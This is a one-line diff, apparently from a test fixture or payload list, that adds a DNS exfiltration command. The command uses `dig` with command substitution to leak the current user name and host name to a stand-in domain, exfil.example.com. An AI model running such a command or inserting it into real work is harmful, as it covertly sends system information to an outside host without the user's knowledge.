@@ -1,0 +1,1 @@
+dig $(whoami).$(hostname).exfil.example.com
